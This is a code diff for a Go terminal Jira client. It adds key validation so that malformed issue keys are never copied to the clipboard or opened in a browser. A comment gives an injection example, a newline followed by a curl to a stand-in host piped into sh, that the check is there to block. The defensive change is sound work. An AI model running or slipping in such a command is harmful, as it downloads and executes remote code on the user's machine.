@@ -366,14 +366,17 @@ func (m Model) handleKey(msg tea.KeyPressMsg) (Model, tea.Cmd) {
 			return m, nil
 		}
 		return m, emit(ReloadMsg{Key: m.key})
-	case actCopyKey:
-		if m.key == "" {
+	case actCopyKey, actBrowser, actCopyURL:
+		if m.key == "" || (act != actCopyKey && m.c.Client == nil) {
 			return m, nil
 		}
-		return m, common.Copy(m.key, m.key)
-	case actBrowser, actCopyURL:
-		if m.key == "" || m.c.Client == nil {
-			return m, nil
+		// A key that is not a Jira key ("HOS-2\ncurl evil.example|sh")
+		// is never copied or opened, as in the list.
+		if err := jiraclient.CheckKey(m.key); err != nil {
+			return m, common.Notice(common.NoticeError, err.Error())
+		}
+		if act == actCopyKey {
+			return m, common.Copy(m.key, m.key)
 		}
 		u := m.c.Client.BrowseURL(m.key)
 		if act == actBrowser {
